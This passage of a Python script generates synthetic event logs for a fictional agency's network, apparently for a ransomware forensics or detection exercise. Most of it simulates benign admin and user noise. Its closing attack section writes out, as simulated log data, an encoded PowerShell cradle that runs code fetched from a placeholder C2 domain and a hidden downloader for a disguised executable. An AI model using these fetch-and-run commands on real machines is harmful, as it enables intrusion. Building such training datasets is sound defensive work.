            s_file(t, outlook, att + fname)
            if fname.endswith(".xlsx"):
                s_proc(t + timedelta(seconds=4), OFFICE + "EXCEL.EXE",
                       f"\"{OFFICE}EXCEL.EXE\" \"{att}{fname}\"", outlook)
            else:
                s_proc(t + timedelta(seconds=4), "C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe",
                       f"\"C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe\" \"{att}{fname}\"", outlook)
        elif kind == 3:
            w = s_proc(t, OFFICE + "WINWORD.EXE",
                       f"\"{OFFICE}WINWORD.EXE\" /n \"P:\\Courriers\\Relance_fournisseur_2026-03.docx\"", explorer)
            s_file(t + timedelta(seconds=2), w, "P:\\Courriers\\~$lance_fournisseur_2026-03.docx")
            if rng.random() < 0.6:   # printing from Word starts the print driver host
                s_proc(t + timedelta(minutes=4), "C:\\Windows\\splwow64.exe", "C:\\Windows\\splwow64.exe 8192", w)
        elif kind == 4:
            host, ip, p = rng.choice([s for s in sites if s[2] is not None])
            s_dns(t, p, host, f"::ffff:{ip};")
            s_net(t, p, ip, 443, host)
        elif kind == 5:
            s_proc(t, "C:\\Program Files (x86)\\Sage\\Sage 100 Comptabilite\\Maestria.exe",
                   "\"C:\\Program Files (x86)\\Sage\\Sage 100 Comptabilite\\Maestria.exe\"", explorer)
        elif kind == 6:
            s_proc(t, SYS32 + "taskhostw.exe", "taskhostw.exe", P_SVCHOST_SCHED)
            s_proc(t + timedelta(seconds=1), SYS32 + "backgroundTaskHost.exe",
                   "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca",
                   P_SVCHOST_DCOM)
            s_proc(t + timedelta(seconds=2), SYS32 + "RuntimeBroker.exe", SYS32 + "RuntimeBroker.exe -Embedding",
                   P_SVCHOST_DCOM)
        elif kind == 7:
            s_proc(t, SYS32 + "SearchProtocolHost.exe",
                   "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe12_ "
                   "Global\\UsGthrCtrlFltPipeMssGthrPipe12 1 -2147483646 \"Software\\Microsoft\\Windows Search\" "
                   "\"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" "
                   "\"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownloadsFolder\"",
                   P_SVCHOST_DCOM, user=SYSTEM_USER, logon_id="0x3e7", integrity="System")
        elif kind == 8:
            # Defender signature update + its own network traffic and lsass scan
            mp = s_proc(t, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25010.11-0\\MpCmdRun.exe",
                        "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25010.11-0\\MpCmdRun.exe\" "
                        "SignaturesUpdateService -ScheduleJob -UnmanagedUpdate",
                        P_DEFENDER, user=SYSTEM_USER, logon_id="0x3e7", integrity="System")
            s_dns(t + ms(300), P_DEFENDER, "definitionupdates.microsoft.com", "::ffff:20.76.201.171;")
            s_net(t + ms(400), P_DEFENDER, "20.76.201.171", 443, "definitionupdates.microsoft.com")
            s_file(t + timedelta(seconds=5), mp,
                   "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{5C7A1B2E-0F3D-4A61-9E8B-2D4C6F1A7B90}\\mpavdlta.vdm")
            s_access(t + timedelta(seconds=9), P_DEFENDER, P_LSASS, "0x1fffff",
                     "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
                     "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{5C7A1B2E-0F3D-4A61-9E8B-2D4C6F1A7B90}\\mpengine.dll+4e1a2c")
        elif kind == 9:
            # LSASS touched by normal system components (not dump-capable rights)
            s_access(t, P_SVCHOST_DCOM, P_LSASS, "0x1000",
                     "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2bfae|"
                     "C:\\Windows\\system32\\rpcss.dll+2e3f1|C:\\Windows\\System32\\RPCRT4.dll+7a213")
            s_dns(t + ms(500), P_SVCHOST_DCOM, DC_FQDN, f"::ffff:{DC_IP};")
            s_net(t + ms(600), P_SVCHOST_DCOM, DC_IP, 389, DC_FQDN)
        else:
            # OneDrive syncing a file, Teams chatter
            s_file(t, onedrive, f"{USER_HOME}OneDrive - ANDP\\Factures\\Facture_fournisseur_{rng.randint(3000, 3999)}.pdf")
            s_net(t + ms(800), teams, "52.113.194.132", 443, "teams.microsoft.com")
    return chrome


def ws_fixed_benign(ctx):
    """One-off benign events with a story value (they must NOT trip the rules)."""
    explorer = ctx["explorer"]
    # Monday: a support technician (adm-dupont) fixes c.martin's printer over RDP.
    t = T("2026-03-02 13:05:18.442")
    sec_4624(ws_sec, WS_FQDN, t, "adm-dupont", DOMAIN, sid("adm-dupont"), "0x9c1e07", 10, "User32 ",
             "Negotiate", WS, SUPPORT_IP, 0, SYS32 + "svchost.exe", "0x4f0", "%%1842", "0x0",
             subj=("S-1-5-18", WS + "$", DOMAIN, "0x3e7"))
    sec_4672(ws_sec, WS_FQDN, t + ms(3), "adm-dupont", DOMAIN, sid("adm-dupont"), "0x9c1e07")
    adm = f"{DOMAIN}\\adm-dupont"
    rdp_explorer = s_proc(t + timedelta(seconds=6), "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE",
                          P_WINLOGON, user=adm, logon_id="0x9c1e07", integrity="High", cwd=SYS32)
    s_proc(t + timedelta(minutes=9), SYS32 + "rundll32.exe",
           "rundll32.exe printui.dll,PrintUIEntry /in /n \"\\\\SRV-IMPRESSION-01\\COMPTA-RDC-MFP\"",
           rdp_explorer, user=adm, logon_id="0x9c1e07", integrity="High", cwd=SYS32)
    s_proc(t + timedelta(minutes=11), SYS32 + "gpupdate.exe", "gpupdate  /force", rdp_explorer,
           user=adm, logon_id="0x9c1e07", integrity="High", cwd=SYS32)
    # disconnected, not logged off: his credentials stay in LSASS
    ws_sec.add(t + timedelta(minutes=37), dict(
        SEC, EventID=4779, Computer=WS_FQDN, AccountName="adm-dupont", AccountDomain=DOMAIN,
        LogonID="0x9c1e07", SessionName="RDP-Tcp#3", ClientName=SUPPORT_WS, ClientAddress=SUPPORT_IP))
    # c.martin extracts bank statements with 7-Zip GUI (benign archiver use)
    t = T("2026-03-03 10:12:44.090")
    s_proc(t, "C:\\Program Files\\7-Zip\\7zG.exe",
           f"\"C:\\Program Files\\7-Zip\\7zG.exe\" x -o\"{USER_HOME}Downloads\\releves_fevrier\\\" -spe -an "
           "-ai#7zMap27316:122:7zEvent2201", explorer)
    # OneDrive registers its own scheduled task (benign 4698)
    ws_sec.add(T("2026-03-02 07:53:02.611"), dict(
        SEC, EventID=4698, Computer=WS_FQDN, SubjectUserSid=sid("c.martin"), SubjectUserName="c.martin",
        SubjectDomainName=DOMAIN, SubjectLogonId=CM_LOGON,
        TaskName=f"\\OneDrive Reporting Task-{sid('c.martin')}",
        TaskContent=task_xml(f"\\OneDrive Reporting Task-{sid('c.martin')}",
                             f"{USER_HOME}AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe",
                             "/reporting", "2026-03-03T07:53:02", "c.martin"),
        ClientProcessStartKey=2814749767106612, ClientProcessId=5512, ParentProcessId=1496,
        RpcCallClientLocality=0, FQDN=WS_FQDN))
    # Tuesday and Wednesday: lock / unlock
    for lock, unlock in (("2026-03-02 16:38:02.118", "2026-03-03 07:49:51.640"),
                         ("2026-03-03 16:41:27.502", "2026-03-04 07:48:12.907")):
        ws_sec.add(T(lock), dict(SEC, EventID=4800, Computer=WS_FQDN, TargetUserSid=sid("c.martin"),
                                 TargetUserName="c.martin", TargetDomainName=DOMAIN, TargetLogonId=CM_LOGON,
                                 SessionId=1))
        u = T(unlock)
        sec_4648(ws_sec, WS_FQDN, u - ms(35), WS + "$", "S-1-5-18", "0x3e7", "c.martin", DOMAIN,
                 "localhost", SYS32 + "winlogon.exe", "0x264", "127.0.0.1", 0)
        lid = f"0x{rng.randint(0x400000, 0x9fffff):x}"
        sec_4624(ws_sec, WS_FQDN, u, "c.martin", DOMAIN, sid("c.martin"), lid, 7, "User32 ", "Negotiate",
                 WS, "127.0.0.1", 0, SYS32 + "winlogon.exe", "0x264", "%%1842", "0x0",
                 subj=("S-1-5-18", WS + "$", DOMAIN, "0x3e7"))
        ws_sec.add(u + ms(20), dict(SEC, EventID=4801, Computer=WS_FQDN, TargetUserSid=sid("c.martin"),
                                    TargetUserName="c.martin", TargetDomainName=DOMAIN, TargetLogonId=CM_LOGON,
                                    SessionId=1))
    # service logons / SYSTEM noise on the workstation
    for day in (2, 3, 4):
        for _ in range(4 if day != 4 else 2):
            tt = rand_time(day, 0, 24 if day != 4 else 8)
            sec_4624(ws_sec, WS_FQDN, tt, "SYSTEM", "NT AUTHORITY", "S-1-5-18", "0x3e7", 5, "Advapi  ",
                     "Negotiate", "-", "-", "-", SYS32 + "services.exe", "0x2ac", "%%1842",
                     subj=("S-1-5-18", WS + "$", DOMAIN, "0x3e7"))
            sec_4672(ws_sec, WS_FQDN, tt + ms(1), "SYSTEM", "NT AUTHORITY", "S-1-5-18", "0x3e7")
        for _ in range(3 if day != 4 else 1):
            tt = rand_time(day, 7, 16)
            ws_sec.add(tt, dict(SEC, EventID=4798, Computer=WS_FQDN, TargetUserName="Administrateur",
                                TargetDomainName=WS, TargetSid="S-1-5-21-2093817765-3811940451-1553014398-500",
                                SubjectUserSid=sid("c.martin"), SubjectUserName="c.martin",
                                SubjectDomainName=DOMAIN, SubjectLogonId=CM_LOGON,
                                CallerProcessId="0x1a8c", CallerProcessName="C:\\Windows\\explorer.exe"))
    # benign PowerShell activity: Intune/inventory script run by SYSTEM
    PSO = {"Channel": "Microsoft-Windows-PowerShell/Operational", "Provider_Name": "Microsoft-Windows-PowerShell",
           "Computer": WS_FQDN}
    benign_blocks = [
        "prompt",
        "$global:?",
        "Get-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\*' | "
        "Select-Object DisplayName, DisplayVersion, Publisher | Sort-Object DisplayName",
        "$inv = [ordered]@{ Poste = $env:COMPUTERNAME; OS = (Get-CimInstance Win32_OperatingSystem).Caption; "
        "Defender = (Get-MpComputerStatus).AntivirusSignatureVersion }\n"
        "Invoke-RestMethod -Uri 'https://intranet.andp.gouv.local/api/inventaire' -Method Post "
        "-Body ($inv | ConvertTo-Json) -ContentType 'application/json' -UseDefaultCredentials",
        "Get-Service -Name WinDefend, Sense, Sysmon64 | Select-Object Name, Status",
        "Test-NetConnection -ComputerName srv-fichiers-01.andp.gouv.local -Port 445 -InformationLevel Quiet",
    ]
    for day in (2, 3):
        for i, block in enumerate(benign_blocks):
            tt = rand_time(day, 9 + i, 9 + i + 0.9)
            ws_ps.add(tt, dict(PSO, EventID=4104, MessageNumber=1, MessageTotal=1, ScriptBlockText=block,
                               ScriptBlockId=str(uuid.UUID(int=rng.getrandbits(128), version=4)),
                               Path="C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\inventaire_postes.ps1"
                               if i >= 2 else ""))
    # Wednesday morning: c.martin discovers the note
    t = T("2026-03-04 07:50:40.118")
    s_proc(t, SYS32 + "notepad.exe", f"\"C:\\Windows\\system32\\NOTEPAD.EXE\" {USER_HOME}Desktop\\{RANSOM_NOTE}",
           explorer)
    return PSO


def task_xml(name, command, args, start, user):
    return ("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n"
            "<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n"
            f"  <RegistrationInfo>\r\n    <URI>{name}</URI>\r\n  </RegistrationInfo>\r\n"
            f"  <Triggers>\r\n    <CalendarTrigger>\r\n      <StartBoundary>{start}</StartBoundary>\r\n"
            "      <Enabled>true</Enabled>\r\n      <ScheduleByDay>\r\n        <DaysInterval>1</DaysInterval>\r\n"
            "      </ScheduleByDay>\r\n    </CalendarTrigger>\r\n  </Triggers>\r\n"
            f"  <Principals>\r\n    <Principal id=\"Author\">\r\n      <UserId>{DOMAIN}\\{user}</UserId>\r\n"
            "      <LogonType>InteractiveToken</LogonType>\r\n      <RunLevel>LeastPrivilege</RunLevel>\r\n"
            "    </Principal>\r\n  </Principals>\r\n"
            "  <Settings>\r\n    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>\r\n"
            "    <Enabled>true</Enabled>\r\n  </Settings>\r\n"
            f"  <Actions Context=\"Author\">\r\n    <Exec>\r\n      <Command>{command}</Command>\r\n"
            + (f"      <Arguments>{args}</Arguments>\r\n" if args else "")
            + "    </Exec>\r\n  </Actions>\r\n</Task>")


FS_USERS = [("j.bernard", "WS-COMPTA-03", "10.20.4.53"), ("s.petit", "WS-RH-02", "10.20.5.22"),
            ("m.durand", "WS-DIR-01", "10.20.3.11"), ("l.moreau", "WS-COMPTA-05", "10.20.4.55"),
            ("a.roux", "WS-RH-04", "10.20.5.24"), ("c.martin", WS, WS_IP)]


def fs_benign():
    """SRV-FICHIERS-01: users opening shares, backups, scheduled shadow copies, services."""
    for day in (2, 3, 4):
        last_h = 24 if day != 4 else 8.5
        # users mapping shares during office hours (Kerberos network logons + share access)
        for _ in range(7 if day != 4 else 4):
            user, wks, ip = rng.choice(FS_USERS)
            if day == 4 and user == "c.martin":
                continue
            t = rand_time(day, 7, min(16.5, last_h))
            lid = f"0x{rng.randint(0x1000000, 0x8ffffff):x}"
            sec_4624(fs_sec, FS_FQDN, t, user, DOMAIN, sid(user), lid, 3, "Kerberos", "Kerberos", "-",
                     ip, rng.randint(49700, 65000))
            share = "Partages" if rng.random() < 0.75 else "Perso$"
            fs_sec.add(t + ms(40), dict(
                SEC, EventID=5140, Computer=FS_FQDN, SubjectUserSid=sid(user), SubjectUserName=user,
                SubjectDomainName=DOMAIN, SubjectLogonId=lid, ObjectType="File", IpAddress=ip,
                IpPort=rng.randint(49700, 65000), ShareName=f"\\\\*\\{share}",
                ShareLocalPath=f"\\??\\D:\\{share.rstrip('$')}", AccessMask="0x1", AccessList="%%4416\n\t\t\t\t"))
            sec_4634(fs_sec, FS_FQDN, t + timedelta(minutes=rng.randint(5, 90)), user, DOMAIN, sid(user), lid, 3)
        # one mistyped password per day
        if day != 4:
            user, wks, ip = rng.choice(FS_USERS[:5])
            t = rand_time(day, 8, 16)
            fs_sec.add(t, dict(
                SEC, EventID=4625, Computer=FS_FQDN, SubjectUserSid="S-1-0-0", SubjectUserName="-",
                SubjectDomainName="-", SubjectLogonId="0x0", TargetUserSid="S-1-0-0", TargetUserName=user,
                TargetDomainName=DOMAIN, Status="0xc000006d", FailureReason="%%2313", SubStatus="0xc000006a",
                LogonType=3, LogonProcessName="NtLmSsp ", AuthenticationPackageName="NTLM", WorkstationName=wks,
                TransmittedServices="-", LmPackageName="-", KeyLength=0, ProcessId="0x0", ProcessName="-",
                IpAddress=ip, IpPort=rng.randint(49700, 65000)))
        # scheduled "shadow copies of shared folders" at 07:00 and 12:00 local (06:00, 11:00 UTC)
        for hour in (6, 11):
            if hour > last_h:
                continue
            t = datetime(2026, 3, day, hour, 0, 2, rng.randint(0, 999) * 1000, tzinfo=timezone.utc)
            vp = fs_4688(t, SYS32 + "vssadmin.exe",
                         "C:\\Windows\\system32\\vssadmin.exe Create Shadow /AutoRetry=15 "
                         "/For=\\\\?\\Volume{4c1b6e2a-9f03-4d7e-b5a8-1e2f3a4b5c6d}\\",
                         SYS32 + "svchost.exe", 1388)
            fs_4688(t + ms(30), SYS32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                    SYS32 + "vssadmin.exe", vp)
            fs_7036(t + ms(900), "Volume Shadow Copy", "running")
            fs_7036(t + timedelta(minutes=3), "Volume Shadow Copy", "stopped")
        # Windows Server Backup by svc-backup at 23:00 local (22:00 UTC)
        if day != 4:
            t = datetime(2026, 3, day, 22, 0, 5, 310000, tzinfo=timezone.utc)
            lid = f"0x{rng.randint(0x1000000, 0x8ffffff):x}"
            sec_4624(fs_sec, FS_FQDN, t - ms(400), "svc-backup", DOMAIN, sid("svc-backup"), lid, 4, "Advapi  ",
                     "Negotiate", FS, "-", "-", SYS32 + "svchost.exe", "0x56c")
            sec_4672(fs_sec, FS_FQDN, t - ms(398), "svc-backup", DOMAIN, sid("svc-backup"), lid)
            fs_4688(t, SYS32 + "wbadmin.exe",
                    "\"C:\\Windows\\system32\\wbadmin.exe\" start backup -backupTarget:\\\\SRV-SAUVEGARDE-01\\wsb$ "
                    "-include:D: -allCritical -vssFull -quiet",
                    SYS32 + "svchost.exe", 1388, user="svc-backup", usid=sid("svc-backup"), logon_id=lid)
            fs_7036(t + timedelta(seconds=2), "Block Level Backup Engine Service", "running")
            fs_7036(t + timedelta(minutes=47), "Block Level Backup Engine Service", "stopped")
        # generic system processes
        for _ in range(4 if day != 4 else 2):
            t = rand_time(day, 0, last_h)
            img, cmd, par, ppid = rng.choice([
                (SYS32 + "taskhostw.exe", "taskhostw.exe -RegisterDevice -SettingChange", SYS32 + "svchost.exe", 1388),
                (SYS32 + "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                 SYS32 + "svchost.exe", 788),
                (SYS32 + "dllhost.exe", "C:\\Windows\\system32\\DllHost.exe /Processid:{02D4B3F1-FD88-11D1-960D-00805FC79235}",
                 SYS32 + "svchost.exe", 788),
                ("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25010.11-0\\MpCmdRun.exe",
                 "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25010.11-0\\MpCmdRun.exe\" "
                 "SignaturesUpdateService -ScheduleJob -UnmanagedUpdate",
                 "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25010.11-0\\MsMpEng.exe", 3412),
                (SYS32 + "CompatTelRunner.exe", "C:\\Windows\\system32\\compattelrunner.exe -maintenance",
                 SYS32 + "svchost.exe", 1388),
            ])
            fs_4688(t, img, cmd, par, ppid)
        # SYSTEM service logons
        for _ in range(3 if day != 4 else 1):
            t = rand_time(day, 0, last_h)
            sec_4624(fs_sec, FS_FQDN, t, "SYSTEM", "NT AUTHORITY", "S-1-5-18", "0x3e7", 5, "Advapi  ",
                     "Negotiate", "-", "-", "-", SYS32 + "services.exe", "0x2b8",
                     subj=("S-1-5-18", FS + "$", DOMAIN, "0x3e7"))
            sec_4672(fs_sec, FS_FQDN, t + ms(1), "SYSTEM", "NT AUTHORITY", "S-1-5-18", "0x3e7")
        # System channel chatter
        for _ in range(3 if day != 4 else 1):
            t = rand_time(day, 0, last_h)
            svc = rng.choice(["Windows Update", "Background Intelligent Transfer Service",
                              "Windows Modules Installer", "WinHTTP Web Proxy Auto-Discovery Service",
                              "Microsoft Defender Antivirus Network Inspection Service"])
            fs_7036(t, svc, "running")
            fs_7036(t + timedelta(minutes=rng.randint(2, 25)), svc, "stopped")
        t = rand_time(day, 5, min(last_h, 9))
        fs_sys.add(t, {"Channel": "System", "Provider_Name": "Microsoft-Windows-GroupPolicy", "Computer": FS_FQDN,
                       "EventID": 1502, "SupportInfo1": 1, "SupportInfo2": 5137, "ProcessingMode": 0,
                       "ProcessingTimeInMilliseconds": rng.randint(900, 2400), "DCName": f"\\\\{DC_FQDN}",
                       "NumberOfGroupPolicyObjects": 7})
        t = rand_time(day, 0, last_h)
        fs_sys.add(t, {"Channel": "System", "Provider_Name": "Microsoft-Windows-Time-Service", "Computer": FS_FQDN,
                       "EventID": 37, "TimeSource": f"{DC_FQDN} (ntp.d|0.0.0.0:123->{DC_IP}:123)"})
    # BITS start type change, and a legitimate monitoring agent installed by adm-dupont (Monday)
    fs_sys.add(T("2026-03-02 09:41:12.004"), dict(
        SCM, EventID=7040, param1="Background Intelligent Transfer Service", param2="demand start",
        param3="auto start", param4="BITS"))
    t = T("2026-03-02 10:31:47.551")
    lid = "0x2b71c9a"
    sec_4624(fs_sec, FS_FQDN, t - timedelta(seconds=40), "adm-dupont", DOMAIN, sid("adm-dupont"), lid, 3,
             "Kerberos", "Kerberos", "-", SUPPORT_IP, 51244)
    sec_4672(fs_sec, FS_FQDN, t - timedelta(seconds=40) + ms(2), "adm-dupont", DOMAIN, sid("adm-dupont"), lid)
    fs_4688(t - timedelta(seconds=5), SYS32 + "msiexec.exe", "C:\\Windows\\system32\\msiexec.exe /V",
            SYS32 + "services.exe", 696)
    fs_sys.add(t, dict(SCM, EventID=7045, ServiceName="Zabbix Agent 2",
                       ImagePath="\"C:\\Program Files\\Zabbix Agent 2\\zabbix_agent2.exe\" -c "
                                 "\"C:\\Program Files\\Zabbix Agent 2\\zabbix_agent2.conf\" -foreground",
                       ServiceType="user mode service", StartType="auto start", AccountName="LocalSystem"))
    fs_7036(t + timedelta(seconds=3), "Zabbix Agent 2", "running")
    sec_4634(fs_sec, FS_FQDN, t + timedelta(minutes=6), "adm-dupont", DOMAIN, sid("adm-dupont"), lid, 3)


def web_benign():
    """srv-web-02: cron, the Linux admin's key-based sessions, backups, internet background noise."""
    cron_pid = 700
    for day in (2, 3, 4):
        last_h = 24 if day != 4 else 8.5
        # hourly cron (sampled every 6 hours to keep the file small)
        for hour in range(3, int(last_h), 6):
            t = datetime(2026, 3, day, hour, 17, 1, rng.randint(0, 999) * 1000, tzinfo=timezone.utc)
            p = rng.randint(30000, 60000)
            syslog(t, "CRON", p, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
            syslog(t + ms(3), "CRON", p, "(root) CMD (cd / && run-parts --report /etc/cron.hourly)", facility="cron")
            audit_exec(t + ms(5), ["/bin/sh", "-c", "cd / && run-parts --report /etc/cron.hourly"], 0, 0,
                       rng.randint(900, 2000), "(none)", cron_pid)
            syslog(t + ms(400), "CRON", p, "pam_unix(cron:session): session closed for user root")
        # nightly database backup by 'deploy' at 01:30 UTC (creates /var/backups/db.tar.gz)
        t = datetime(2026, 3, day, 1, 30, 1, 120000, tzinfo=timezone.utc)
        p = rng.randint(30000, 60000)
        ses = rng.randint(900, 2000)
        syslog(t, "CRON", p, "pam_unix(cron:session): session opened for user deploy(uid=1001) by (uid=0)")
        syslog(t + ms(2), "CRON", p, "(deploy) CMD (/home/deploy/bin/backup-db.sh >> /var/log/andp/backup.log 2>&1)",
               facility="cron")
        sh = audit_exec(t + ms(4), ["/bin/sh", "-c", "/home/deploy/bin/backup-db.sh >> /var/log/andp/backup.log 2>&1"],
                        1001, 1001, ses, "(none)", cron_pid)
        audit_exec(t + ms(30), ["pg_dump", "-Fc", "-f", "/var/backups/db.dump", "andp_portail"], 1001, 1001, ses,
                   "(none)", sh)
        audit_exec(t + timedelta(seconds=48), ["tar", "-czf", "/var/backups/db.tar.gz", "-C", "/var/backups", "db.dump"],
                   1001, 1001, ses, "(none)", sh)
        audit_exec(t + timedelta(seconds=95), ["rsync", "-a", "/var/backups/db.tar.gz",
                                               "backup@10.20.1.41:/srv/backups/srv-web-02/"], 1001, 1001, ses,
                   "(none)", sh)
        syslog(t + timedelta(seconds=131), "CRON", p, "pam_unix(cron:session): session closed for user deploy")
        # internet background noise against the exposed SSH port (no password attempts)
        for _ in range(3 if day != 4 else 1):
            t = rand_time(day, 0, last_h)
            ip = rng.choice(["198.51.100.23", "198.51.100.87", "192.0.2.200", "198.51.100.142"])
            port = rng.randint(30000, 65000)
            p = rng.randint(30000, 60000)
            msg = rng.choice([f"Connection closed by {ip} port {port} [preauth]",
                              f"Received disconnect from {ip} port {port}:11: Bye Bye [preauth]",
                              f"Did not receive identification string from {ip} port {port}",
                              f"Connection reset by {ip} port {port} [preauth]"])
            syslog(t, "sshd", p, msg, src_ip=ip, src_port=port)

    # the Linux administrator works on the server on Monday and Tuesday (key-based SSH from the LAN)
    for start, cmds in (("2026-03-02 09:10:03.551", [
                            ["sudo", "systemctl", "reload", "nginx"],
                            ["tail", "-n", "200", "/var/log/nginx/error.log"],
                            ["curl", "-sI", "https://portail.andp.gouv.fr/"],
                            ["df", "-h"]]),
                        ("2026-03-03 13:20:44.003", [
                            ["sudo", "apt", "list", "--upgradable"],
                            ["sudo", "journalctl", "-u", "php8.2-fpm", "--since", "-2h"],
                            ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "http://127.0.0.1/health"],
                            ["ls", "-la", "/var/backups"]])):
        t = T(start)
        port = rng.randint(40000, 60000)
        p = rng.randint(30000, 60000)
        ses = rng.randint(150, 186)
        syslog(t, "sshd", p, f"Accepted publickey for j.leroy from {ADMIN_LNX_IP} port {port} ssh2: "
                             "ED25519 SHA256:q3Vt8mYlK0Rz7c1bH4xWfN2sJ9aPp6eUoDgLiTnXkMw",
               src_ip=ADMIN_LNX_IP, src_port=port, user="j.leroy")
        audit_user(t + ms(2), "USER_ACCT", p, 0, 4294967295, 4294967295,
                   {"op": "PAM:accounting", "grantors": "pam_permit", "acct": "j.leroy", "exe": "/usr/sbin/sshd",
                    "hostname": ADMIN_LNX_IP, "addr": ADMIN_LNX_IP, "terminal": "ssh", "res": "success"})
        syslog(t + ms(4), "sshd", p, "pam_unix(sshd:session): session opened for user j.leroy(uid=1000) by (uid=0)")
        audit_user(t + ms(5), "LOGIN", p, 0, 1000, ses, {"old-auid": 4294967295, "tty": "(none)", "old-ses": 4294967295,
                                                         "res": 1})
        syslog(t + ms(7), "systemd-logind", 612, f"New session {ses} of user j.leroy.")
        audit_user(t + ms(60), "USER_LOGIN", p, 0, 1000, ses,
                   {"op": "login", "id": 1000, "exe": "/usr/sbin/sshd", "hostname": ADMIN_LNX_IP, "addr": ADMIN_LNX_IP,
                    "terminal": "/dev/pts/0", "res": "success"})
        bash = rng.randint(30000, 60000)
        tt = t
        for argv in cmds:
            tt += timedelta(seconds=rng.randint(20, 240))
            if argv[0] == "sudo":
                syslog(tt, "sudo", None, f"j.leroy : TTY=pts/0 ; PWD=/home/j.leroy ; USER=root ; "
                                         f"COMMAND=/usr/bin/{' '.join(argv[1:])}")
                syslog(tt + ms(2), "sudo", None, "pam_unix(sudo:session): session opened for user root(uid=0) by j.leroy(uid=1000)")
                sp = audit_exec(tt, argv, 1000, 1000, ses, "pts0", bash)
                audit_exec(tt + ms(20), argv[1:], 0, 1000, ses, "pts0", sp)
                syslog(tt + timedelta(seconds=2), "sudo", None, "pam_unix(sudo:session): session closed for user root")
            else:
                audit_exec(tt, argv, 1000, 1000, ses, "pts0", bash)
        tt += timedelta(minutes=3)
        syslog(tt, "sshd", p, f"Received disconnect from {ADMIN_LNX_IP} port {port}:11: disconnected by user",
               src_ip=ADMIN_LNX_IP, src_port=port)
        syslog(tt + ms(1), "sshd", p, f"Disconnected from user j.leroy {ADMIN_LNX_IP} port {port}",
               src_ip=ADMIN_LNX_IP, src_port=port, user="j.leroy")
        syslog(tt + ms(3), "sshd", p, "pam_unix(sshd:session): session closed for user j.leroy")
        audit_user(tt + ms(4), "USER_END", p, 0, 1000, ses,
                   {"op": "PAM:session_close", "grantors": "pam_loginuid,pam_keyinit,pam_limits,pam_systemd,pam_unix",
                    "acct": "j.leroy", "exe": "/usr/sbin/sshd", "hostname": ADMIN_LNX_IP, "addr": ADMIN_LNX_IP,
                    "terminal": "ssh", "res": "success"})
        syslog(tt + ms(9), "systemd-logind", 612, f"Session {ses} logged out. Waiting for processes to exit.")
        syslog(tt + ms(15), "systemd-logind", 612, f"Removed session {ses}.")


# ===========================================================================
# 2. THE ATTACK
# ===========================================================================

def attack(ctx):
    outlook = ctx["outlook"]
    S1, S2, S3, S4, S5, S6, S7 = ("1-phishing", "2-persistence-discovery", "3-credential-theft",
                                  "4-lateral-movement", "5-staging", "6-exfiltration", "7-impact")
    # ---------------------------------------------------------------- step 1
    att_dir = f"{USER_HOME}AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7XK2M4P\\"
    docm = att_dir + "Facture_2026-03.docm"
    t = T("2026-03-02 08:46:55.310")
    s_file(t, outlook, docm, True, S1)
    word = s_proc(T("2026-03-02 08:47:02.118"), OFFICE + "WINWORD.EXE",
                  f"\"{OFFICE}WINWORD.EXE\" /n \"{docm}\" /o \"\"", outlook, mal=True, step=S1)
    cradle = f"$u='http://{C2_DOMAIN}/api/v2/update';IEX (New-Object Net.WebClient).DownloadString($u)"
    enc = base64.b64encode(cradle.encode("utf-16-le")).decode()
    ps = s_proc(T("2026-03-02 08:47:19.512"), PS_EXE,
                f"powershell.exe -NoP -NonI -W Hidden -enc {enc}", word, mal=True, step=S1)
    PSO = {"Channel": "Microsoft-Windows-PowerShell/Operational", "Provider_Name": "Microsoft-Windows-PowerShell",
           "Computer": WS_FQDN}
    ws_ps.add(T("2026-03-02 08:47:20.044"), dict(PSO, EventID=4104, MessageNumber=1, MessageTotal=1,
                                                 ScriptBlockText=cradle, ScriptBlockId=str(uuid.UUID(int=rng.getrandbits(128), version=4)),
                                                 Path=""), True, S1)
    s_dns(T("2026-03-02 08:47:20.101"), ps, C2_DOMAIN, f"::ffff:{C2_IP};", True, S1)
    s_net(T("2026-03-02 08:47:20.130"), ps, C2_IP, 80, C2_DOMAIN, mal=True, step=S1)
    stage2 = ("$d = Join-Path $env:ProgramData 'EdgeUpdate'\n"
              "New-Item -ItemType Directory -Path $d -Force | Out-Null\n"
              f"Invoke-WebRequest -Uri 'http://{C2_DOMAIN}/dl/edgeupd.bin' -OutFile \"$d\\edgeupd.exe\" -UseBasicParsing\n"
              "Start-Process -FilePath \"$d\\edgeupd.exe\" -WindowStyle Hidden")
